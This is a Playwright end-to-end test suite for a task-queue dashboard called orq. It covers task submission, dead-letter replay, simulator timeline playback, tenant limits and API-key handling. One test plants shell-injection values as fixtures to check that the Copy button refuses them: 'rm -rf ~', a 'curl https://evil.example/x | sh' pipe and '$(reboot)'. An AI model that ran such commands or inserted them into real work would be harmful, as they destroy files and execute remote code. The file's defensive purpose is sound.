// Goal: the dashboard works end to end against a real orq: what an operator does in the browser
// reaches the API and what the API holds shows in the browser. Method: one `orq serve` on the
// embedded store serving the built export and a timelines directory, headless Chromium through
// playwright-core; each test opens a fresh browser context (fresh storage), acts through the UI,
// checks the outcome both on screen and through the API, and fails on any console error or
// uncaught exception. Screenshots of every view go to test-results/screenshots/.

import assert from "node:assert/strict";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import {
  newPage,
  orqHasKeys,
  screenshot,
  simulate,
  startWorld,
  waitFor,
  waitTaskStatus,
  waitText,
  type TestPage,
  type World,
} from "./fixture";

interface TaskJson {
  id: string;
  status: string;
  queue: string;
}
interface QueueJson {
  queue: string;
  paused: boolean;
  counts: Record<string, number>;
  tenants: Array<{ tenant: string; weight: number; max_inflight: number | null }>;
}
interface TimelineLine {
  t_ms: number;
  actor: string;
  kind: string;
  task: string | null;
}

let world: World;

/** Run a test body with a fresh page; it fails on any console error the page logged. */
async function withPage(body: (p: TestPage) => Promise<void>): Promise<void> {
  const p = await newPage(world);
  try {
    await body(p);
    assert.deepEqual(p.errors, [], "no console errors or uncaught exceptions");
  } catch (e) {
    // Say what orq printed: the cause of a failure is often there.
    if (e instanceof Error) e.message += `\n--- orq output (tail) ---\n${world.log().slice(-3000)}`;
    throw e;
  } finally {
    await p.close();
  }
}

async function submit(body: Record<string, unknown>): Promise<TaskJson> {
  const r = await world.api<TaskJson>("/tasks", { method: "POST", body });
  assert.equal(r.status, 201, `submit: ${JSON.stringify(r.body)}`);
  return r.body;
}

describe("dashboard against a live orq", { timeout: 15 * 60_000 }, () => {
  before(async () => {
    world = await startWorld();
  });
  after(async () => {
    await world?.stop();
  });

  test("tasks submitted through the form and through the API show in the overview counts", async () => {
    await withPage(async ({ page }) => {
      await page.goto("/tasks/");
      const form = page.locator('form[aria-label="Submit a task"]');
      await form.locator('input[name="queue"]').fill("ui1");
      await form.locator('input[name="tenant"]').fill("acme");
      await form.locator('textarea[name="payload"]').fill('{"from": "the form"}');
      await form.locator('input[name="count"]').fill("3");
      await page.getByTestId("submit-task").click();
      await page.getByTestId("submitted").waitFor();
      await page.getByText("Submitted 3 tasks").waitFor();
      // Two more through the API.
      await submit({ queue: "ui1", tenant: "beta", payload: { from: "the api" } });
      await submit({ queue: "ui1", tenant: "beta", payload: { from: "the api" } });
      await page.getByRole("link", { name: "Overview" }).click();
      await waitText(page, '[data-testid="total-ui1-enqueued"]', (t) => t === "5", "5 submitted tasks in the overview");
      // The built-in echo handler completes them.
      await waitText(page, '[data-testid="count-ui1-completed"]', (t) => t === "5", "5 completed tasks in the overview");
      const q = await world.api<QueueJson>("/queues/ui1");
      assert.equal(q.body.counts.completed, 5);
      // The task list of that queue shows them, with the tenant of each.
      await page.goto("/tasks/?queue=ui1");
      await waitFor("5 task rows", async () => (await page.locator('[data-testid^="task-row-"]').count()) === 5);
      assert.equal(await page.locator('[data-testid^="task-row-"]', { hasText: "acme" }).count(), 3);
      await screenshot(page, "tasks");
    });
  });

  test("a task of type fail reaches the DLQ and is replayed from the UI, one and in bulk", async () => {
    await withPage(async ({ page }) => {
      // Fails its first attempt, no retries: dead. After a replay the fail handler lets it through.
      const t = await submit({ queue: "ui2", type: "fail", payload: { times: 1 }, max_retries: 0 });
      await waitTaskStatus(world, t.id, "dead");
      await page.goto("/dlq/?queue=ui2");
      const row = page.getByTestId(`dlq-row-${t.id}`);
      await row.waitFor();
      assert.match((await row.textContent()) ?? "", /planned failure/);
      await page.getByTestId(`inspect-${t.id}`).click();
      await page.getByRole("dialog").getByText("Last error").waitFor();
      await screenshot(page, "dlq");
      await page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
      await page.getByTestId(`replay-${t.id}`).click();
      await page.getByRole("dialog").getByRole("button", { name: "Replay" }).click();
      await page.getByText(`Replayed ${t.id}`).waitFor();
      await waitTaskStatus(world, t.id, "completed");
      await row.waitFor({ state: "detached" });
      const task = await world.api<{ replays: number }>(`/tasks/${t.id}`);
      assert.equal(task.body.replays, 1);
      // Its page lists both attempts, the failed one and the successful one, and says that the
      // error it still shows is from before it completed.
      await page.goto(`/task/?id=${t.id}&queue=ui2`);
      const history = page.getByTestId("task-history");
      await waitFor("2 attempt rows", async () => (await history.locator("tbody tr").count()) === 2);
      const rows = await history.locator("tbody tr").allTextContents();
      assert.match(rows[0] ?? "", /^1.*failed.*planned failure 1/);
      assert.match(rows[1] ?? "", /^1.*completed—$/);
      assert.match((await page.getByTestId("task-details").textContent()) ?? "", /Error of attempt 1 \(before it completed\)planned failure 1/);
      assert.equal(await page.getByTestId("task-trace").count(), 0, "no trace row without a trace");
      // A task submitted under a trace shows its trace id.
      const traced = await world.api<TaskJson>("/tasks", {
        method: "POST",
        body: { queue: "ui2", type: "echo", payload: {} },
        headers: { traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01" },
      });
      assert.equal(traced.status, 201);
      await page.goto(`/task/?id=${traced.body.id}&queue=ui2`);
      assert.equal(await waitText(page, '[data-testid="task-trace"]', (s) => s.length > 0, "the trace row"), "4bf92f3577b34da6a3ce929d0e0e4736");
      await page.goto("/dlq/?queue=ui2");

      // Bulk: three dead tasks; the confirmation states the number before anything happens.
      const dead = await Promise.all([1, 2, 3].map(() => submit({ queue: "ui2", type: "fail", payload: { times: 1 }, max_retries: 0 })));
      for (const d of dead) await waitTaskStatus(world, d.id, "dead");
      await waitFor("3 rows in the DLQ view", async () => (await page.locator('[data-testid^="dlq-row-"]').count()) === 3);
      await page.getByTestId("bulk-replay").click();
      const count = await waitText(page, '[data-testid="bulk-replay-count"]', (s) => s.length > 0, "the bulk replay count");
      assert.match(count, /replay 3 dead tasks of queue ui2/);
      await page.getByRole("dialog").getByRole("button", { name: "Replay 3" }).click();
      await page.getByText("Replayed 3 tasks").waitFor();
      for (const d of dead) await waitTaskStatus(world, d.id, "completed");
      await page.getByText("The DLQ of ui2 is empty.").waitFor();
    });
  });

  test("the replay view loads a simulator timeline and shows faults, task states at a chosen time, and a violation", async () => {
    // Two timelines from this run's simulator: a passing seed with faults (served by orq from its
    // --timelines directory) and a planted bug that the checker catches (opened as a file). The
    // passing seed is the first from 1 whose run has a worker crash, a lost reply and a lease that
    // lasts, so that a change to the engine's schedules does not break the test.
    const scratch = mkdtempSync(join(tmpdir(), "orq-seeds-"));
    let seed = 0;
    let clean = "";
    let chosen: { task: string; t: number } | null = null;
    let crash: (TimelineLine & { kind: string }) | undefined;
    for (let s = 1; s <= 40 && !chosen; s++) {
      const file = simulate(scratch, `seed${s}.jsonl`, ["--seed", String(s)]);
      const lines = readFileSync(file, "utf8").trim().split("\n").map((l) => JSON.parse(l) as TimelineLine & { kind: string });
      const events = lines.slice(1);
      crash = events.find((e) => e.kind === "crash");
      if (!crash || !events.some((e) => e.kind === "lost_reply")) continue;
      // A task's state at a time chosen between two of its events: leased, not yet finished.
      for (const [i, e] of events.entries()) {
        if (e.kind !== "leased" || !e.task) continue;
        const next = events.slice(i + 1).find((x) => x.task === e.task && ["completed", "retrying", "dead", "queued", "released", "leased", "cancelled"].includes(x.kind));
        if (next && next.t_ms - e.t_ms >= 20) {
          chosen = { task: e.task, t: e.t_ms + Math.floor((next.t_ms - e.t_ms) / 2) };
          break;
        }
      }
      if (chosen) {
        seed = s;
        clean = join(world.timelinesDir, `seed${s}.jsonl`);
        copyFileSync(file, clean);
      }
    }
    rmSync(scratch, { recursive: true, force: true });
    assert.ok(chosen && crash, "a seed in 1..40 crashes a worker, loses a reply and has a lease that lasts");
    const planted = simulate(world.timelinesDir, "planted.jsonl", ["--seed", "1", "--planted", "lease_ignores_run_at"]);

    await withPage(async ({ page }) => {
      await page.goto("/replay/");
      await page.getByTestId(`timeline-seed${seed}.jsonl`).click();
      await waitText(page, '[data-testid="timeline-seed"]', (t) => t === String(seed), "the seed of the opened timeline");
      await page.getByTestId("verdict-pass").waitFor();
      assert.equal(await page.getByTestId("replay-command").textContent(), `cargo run -p orq-sim -- run --seed ${seed}`);
      // Faults are on the time axis.
      assert.ok((await page.locator('[data-testid="marker"][data-kind="crash"]').count()) >= 1, "a crash marker");
      assert.ok((await page.locator('[data-testid="marker"][data-kind="lost_reply"]').count()) >= 1, "a lost_reply marker");

      // Drive the scrubber to the chosen time; the task is on the board in the leased column.
      await page.getByTestId("scrubber").fill(String(chosen!.t));
      await waitText(page, '[data-testid="replay-clock"]', (t) => t.includes((chosen!.t / 1000).toFixed(3)), "the clock at the chosen time");
      await page.getByLabel("Find task").fill(chosen!.task);
      const card = page.getByTestId("board-leased").getByTestId(`task-${chosen!.task}`);
      await card.waitFor();
      assert.equal(await card.getAttribute("data-status"), "leased");
      // Its story: every event of the task, the current one marked.
      await card.click();
      await page.getByTestId("task-story").waitFor();
      assert.match((await page.getByTestId("story-current").textContent()) ?? "", /leased/);
      await screenshot(page, "replay");

      // A crash marker moves the time to the crash: that worker shows as crashed.
      await page.locator(`[data-testid="marker"][data-kind="crash"][data-t="${crash!.t_ms}"]`).first().click();
      await waitFor("the crashed worker", async () => (await page.getByTestId(`worker-${crash!.actor.split(".")[0]}`).getAttribute("data-condition")) === "crashed");

      // The same file opens through the file input too.
      await page.getByTestId("timeline-file").setInputFiles(clean);
      await page.getByText(`Run passed — seed${seed}.jsonl`).waitFor();
      // The planted bug: the violation, its seed and the command that reproduces it.
      await page.getByTestId("timeline-file").setInputFiles(planted);
      await page.getByTestId("violation").waitFor();
      assert.match((await page.getByTestId("violation-message").textContent()) ?? "", /before its run_at/);
      assert.equal(await page.getByTestId("timeline-seed").textContent(), "1");
      assert.match((await page.getByTestId("replay-command").textContent()) ?? "", /--seed 1 --planted lease_ignores_run_at/);
      assert.ok((await page.locator('[data-testid="marker"][data-kind="violation"]').count()) === 1, "the violation on the time axis");
      await screenshot(page, "replay-violation");
    });
  });

  test("Copy puts the command built from a timeline's seed on the clipboard, never the file's replay line", async () => {
    // Crafted timelines, as someone could hand a user one: a replay line that is a shell command,
    // and options full of shell metacharacters. The clipboard must hold the command built from the
    // seed, or nothing be copied at all.
    const events = ['{"t_ms":1,"actor":"client","kind":"queued","task":"01K","tenant":"t","attempt":0,"details":{}}'];
    const crafted = (name: string, header: Record<string, unknown>) => {
      const line = JSON.stringify({ kind: "header", version: 1, replay: "rm -rf ~", ...header });
      writeFileSync(join(world.timelinesDir, name), [line, ...events].join("\n") + "\n");
    };
    crafted("crafted-replay.jsonl", { seed: 4242, config: { seed: 4242, planted: "lease_ignores_run_at", lossy_restart: false, chosen: { families: ["crash"], tasks: 9 } } });
    crafted("crafted-options.jsonl", { seed: 7, config: { seed: 7, planted: "none; curl https://evil.example/x | sh", chosen: { families: ["$(reboot)"] } } });
    await withPage(async ({ page, context }) => {
      await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: world.base });
      await page.goto("/replay/");
      await page.getByTestId("timeline-crafted-replay.jsonl").click();
      await waitText(page, '[data-testid="timeline-seed"]', (t) => t === "4242", "the crafted timeline opened");
      const built = "cargo run -p orq-sim -- run --seed 4242 --planted lease_ignores_run_at --faults crash --tasks 9";
      assert.equal(await page.getByTestId("replay-command").textContent(), built);
      await page.getByTestId("replay-differs").waitFor();
      await page.getByTestId("replay-copy").click();
      await waitText(page, '[data-testid="replay-copy"]', (t) => t === "Copied", "the copy done");
      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), built);
      // Options that are not orq-sim's: no command, Copy disabled with the reason, the clipboard untouched.
      await page.getByTestId("timeline-crafted-options.jsonl").click();
      await waitText(page, '[data-testid="timeline-seed"]', (t) => t === "7", "the second crafted timeline opened");
      assert.match((await page.getByTestId("replay-refused").textContent()) ?? "", /planted bug "none; curl https:\/\/evil\.example.* is not one orq-sim knows/);
      assert.equal(await page.getByTestId("replay-command").count(), 0);
      assert.equal(await page.getByTestId("replay-copy").isDisabled(), true);
      assert.match((await page.getByTestId("replay-copy").getAttribute("title")) ?? "", /^No command to copy: planted bug/);
      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), built);
    });
  });

  test("the replay view shows the store's refusals: the window in force, the markers, the fault families", async () => {
    // A hand-written timeline (tests/fixtures/refusals.jsonl): refusal episodes, a LOADING window
    // after a restart, single refusals and a slow call.
    await withPage(async ({ page }) => {
      await page.goto("/replay/");
      await page.getByTestId("timeline-file").setInputFiles(join(__dirname, "..", "fixtures", "refusals.jsonl"));
      await page.getByText("Run passed — refusals.jsonl").waitFor();
      assert.equal(await page.getByTestId("fact-fault-families").textContent(), "fault families: network, refusal");
      assert.equal(await page.getByTestId("fact-refused-calls").textContent(), "refused calls: 17");
      for (const [kind, n] of [["refusal", 3], ["refusal_episode", 3], ["loading", 1], ["slow_call", 1]] as const) {
        assert.equal(await page.locator(`[data-testid="marker"][data-kind="${kind}"]`).count(), n, `${n} ${kind} marker(s)`);
      }
      // A READONLY episode's marker: the store refuses writes until it ends.
      await page.locator('[data-testid="marker"][data-kind="refusal_episode"][data-t="20"]').click();
      await waitText(page, '[data-testid="board-store-refusing"]', (t) => t === "store refusing: READONLY (writes) until 2.420 s", "the READONLY window");
      assert.equal(await page.getByTestId("worker-store").getByTestId("store-refusing").textContent(), "refusing READONLY (writes)");
      // Between the BUSY episode's end and the restart the store serves again.
      await page.getByTestId("scrubber").fill("1600");
      await page.getByTestId("board-store-refusing").waitFor({ state: "detached" });
      await page.locator('[data-testid="marker"][data-kind="loading"]').click();
      await waitText(page, '[data-testid="board-store-refusing"]', (t) => t === "store refusing: LOADING (after a restart) until 3.200 s", "the LOADING window");
      await screenshot(page, "replay-refusals");
      // Single refusals by worker slot (w1 and w1.2 together), and in all on the store's row.
      assert.equal(await page.getByTestId("worker-w1").locator("td").last().textContent(), "2");
      assert.equal(await page.getByTestId("refusals-total").textContent(), "3");
    });
  });

  test("a queue is paused and resumed from the overview", async () => {
    await withPage(async ({ page }) => {
      await submit({ queue: "ui4", payload: 1 });
      await page.goto("/?queue=ui4");
      await waitText(page, '[data-testid="count-ui4-completed"]', (t) => t === "1", "the first task completed");
      await page.getByTestId("pause-ui4").click();
      await page.getByRole("dialog").getByRole("button", { name: "Pause leasing" }).click();
      await page.getByTestId("paused-ui4").waitFor();
      assert.equal((await world.api<QueueJson>("/queues/ui4")).body.paused, true);
      // While paused a new task stays queued (a state that holds, not a timing).
      await submit({ queue: "ui4", payload: 2 });
      await waitText(page, '[data-testid="count-ui4-queued"]', (t) => t === "1", "the new task queued while paused");
      await screenshot(page, "overview-paused");
      await page.getByTestId("resume-ui4").click();
      await page.getByTestId("paused-ui4").waitFor({ state: "detached" });
      assert.equal((await world.api<QueueJson>("/queues/ui4")).body.paused, false);
      await waitText(page, '[data-testid="count-ui4-completed"]', (t) => t === "2", "the queued task ran after resume");
    });
  });

  test("the tenants page shows a queue's tenants a page at a time", async () => {
    // 105 tenants: the first page holds 100 by name, the next the other 5.
    const tasks = Array.from({ length: 105 }, (_, i) => ({ queue: "uip", tenant: `t${String(i).padStart(3, "0")}`, payload: i }));
    const r = await world.api("/tasks/batch", { method: "POST", body: { tasks } });
    assert.equal(r.status, 201);
    await withPage(async ({ page }) => {
      await page.goto("/tenants/?queue=uip");
      await page.getByTestId("tenant-row-t099").waitFor();
      const pager = page.getByTestId("tenants-pager");
      assert.match((await pager.textContent()) ?? "", /100 of 105 tenants/);
      assert.equal(await page.getByTestId("tenant-row-t100").count(), 0);
      await pager.getByRole("button", { name: "Next page" }).click();
      await page.getByTestId("tenant-row-t104").waitFor();
      assert.match((await pager.textContent()) ?? "", /5 of 105 tenants/);
      assert.equal(await page.getByTestId("tenant-row-t000").count(), 0);
      await pager.getByRole("button", { name: "First page" }).click();
      await page.getByTestId("tenant-row-t000").waitFor();
    });
  });

  test("a tenant's limits are edited from the tenants page", async () => {
    await withPage(async ({ page }) => {
      await submit({ queue: "ui5", tenant: "acme", payload: 1 });
      await page.goto("/tenants/?queue=ui5");
      await page.getByTestId("tenant-row-acme").waitFor();
      await page.getByTestId("edit-tenant-acme").click();
      const form = page.locator('form[aria-label="Tenant limits"]');
      await form.locator('input[name="weight"]').fill("2.5");
      await form.locator('input[name="max_inflight"]').fill("7");
      await form.locator('input[name="rate_per_s"]').fill("10");
      await form.locator('input[name="burst"]').fill("20");
      await page.getByTestId("save-tenant").click();
      await waitText(page, '[data-testid="max_inflight-acme"]', (t) => t === "7", "max in flight 7 in the table");
      await waitText(page, '[data-testid="weight-acme"]', (t) => t === "2.5", "weight 2.5 in the table");
      const tenants = await world.api<{ tenants: Array<{ tenant: string; weight: number; max_inflight: number; rate_per_s: number; burst: number }> }>("/queues/ui5/tenants");
      const acme = tenants.body.tenants.find((x) => x.tenant === "acme");
      assert.deepEqual(
        { weight: acme?.weight, max_inflight: acme?.max_inflight, rate_per_s: acme?.rate_per_s, burst: acme?.burst },
        { weight: 2.5, max_inflight: 7, rate_per_s: 10, burst: 20 },
      );
      await screenshot(page, "tenants");
      // At a laptop's width, with long limits and a long tenant name, the row still fits: its
      // Edit limits button is on screen (it was cut off at 1400 px).
      await submit({ queue: "ui5", tenant: "acme-corporation-eu-west-1", payload: 1 });
      await world.api("/queues/ui5/tenants/acme-corporation-eu-west-1", {
        method: "PUT",
        body: { weight: 2.5, max_inflight: 1000, max_queued: 100000, rate_per_s: 1234.5, burst: 10000 },
      });
      await page.setViewportSize({ width: 1400, height: 900 });
      await page.reload();
      const edit = page.getByTestId("edit-tenant-acme-corporation-eu-west-1");
      await edit.waitFor();
      const right = await edit.evaluate((b) => b.getBoundingClientRect().right);
      assert.ok(right <= 1400, `the Edit limits button ends at ${right} px of 1400`);
      // Emptying a field removes the limit.
      await page.getByTestId("edit-tenant-acme").click();
      await form.locator('input[name="max_inflight"]').fill("");
      await page.getByTestId("save-tenant").click();
      await waitText(page, '[data-testid="max_inflight-acme"]', (t) => t === "—", "no cap in the table");
      const again = await world.api<{ tenants: Array<{ tenant: string; max_inflight: number | null }> }>("/queues/ui5/tenants");
      assert.equal(again.body.tenants.find((x) => x.tenant === "acme")?.max_inflight, null);
    });
  });

  test("every view loads without console errors", async () => {
    // Something to show: a running task (a worker with a lease), a scheduled one, a finished one.
    const running = await submit({ queue: "ui6", type: "sleep", payload: { ms: 120_000 } });
    await submit({ queue: "ui6", payload: { later: true }, delay_ms: 3_600_000 });
    const done = await submit({ queue: "ui6", payload: { hello: "world" } });
    await waitTaskStatus(world, running.id, "leased");
    await waitTaskStatus(world, done.id, "completed");
    copyFileSync(join(__dirname, "..", "fixtures", "small.jsonl"), join(world.timelinesDir, "small.jsonl"));
    const views: Array<[string, string, string]> = [
      ["overview", "/?queue=ui6", '[data-testid="queue-row-ui6"]'],
      ["tenants", "/tenants/?queue=ui6", '[data-testid="tenant-row-default"]'],
      ["tasks", "/tasks/?queue=ui6", `[data-testid="task-row-${done.id}"]`],
      ["task", `/task/?id=${done.id}&queue=ui6`, '[data-testid="task-history"]'],
      ["scheduled", "/scheduled/?queue=ui6", '[data-testid="card-scheduled"] [data-testid^="task-row-"]'],
      ["workers", "/workers/?queue=ui6", `a[href*="${running.id}"]`],
      ["dlq", "/dlq/?queue=ui6", "text=The DLQ of ui6 is empty."],
      ["replay", "/replay/?name=small.jsonl", '[data-testid="violation"]'],
    ];
    for (const [view, url, ready] of views) {
      await withPage(async ({ page }) => {
        await page.goto(url);
        await page.locator("h1").first().waitFor();
        await page.locator(ready).first().waitFor();
        if (view === "overview") {
          await page.getByTestId("chart-throughput").waitFor();
        }
        if (view === "task") {
          assert.match((await page.getByTestId("task-details").textContent()) ?? "", /ui6/);
        }
        await screenshot(page, { dlq: "dlq-empty", replay: "replay-fixture" }[view] ?? view);
      });
    }
  });
});

describe("dashboard against an orq that requires API keys", { timeout: 5 * 60_000, skip: !orqHasKeys() && "this orq cannot make API keys" }, () => {
  let secured: World;
  before(async () => {
    secured = await startWorld({ auth: true });
  });
  after(async () => {
    await secured?.stop();
  });

  test("a 401 asks for the key, which is kept in session storage and sent on every call and the event stream", async () => {
    const r = await secured.api<TaskJson>("/tasks", { method: "POST", body: { queue: "sec", payload: 1 } });
    assert.equal(r.status, 201);
    const p = await newPage(secured);
    try {
      await p.page.goto("/?queue=sec");
      const dialog = p.page.getByRole("dialog", { name: "API key required" });
      await dialog.waitFor();
      await dialog.getByLabel("API key").fill(secured.key!);
      await dialog.getByRole("button", { name: "Use key" }).click();
      // The page reloads with the key: the queue and its counts show, and the event stream (read
      // with fetch, since EventSource cannot send the header) is live.
      await p.page.getByTestId("queue-row-sec").waitFor();
      await waitText(p.page, '[data-testid="live-mode"]', (t) => t === "Live", "the live event stream with the key");
      const stored = await p.page.evaluate(() => ({
        session: sessionStorage.getItem("orq.apiKey"),
        local: Object.values(localStorage),
      }));
      assert.equal(stored.session, secured.key);
      assert.ok(!stored.local.some((v) => v.includes(secured.key!)), "the key is not in local storage");
      // Actions go through with the key too.
      await p.page.getByTestId("pause-sec").click();
      await p.page.getByRole("dialog").getByRole("button", { name: "Pause leasing" }).click();
      await p.page.getByTestId("paused-sec").waitFor();
      assert.equal((await secured.api<QueueJson>("/queues/sec")).body.paused, true);
      // Only the first calls, made before the key was given, failed (with 401).
      assert.deepEqual(p.errors.filter((e) => !/status of 401/.test(e)), []);
      await screenshot(p.page, "auth-overview");
    } finally {
      await p.close();
    }
  });
});
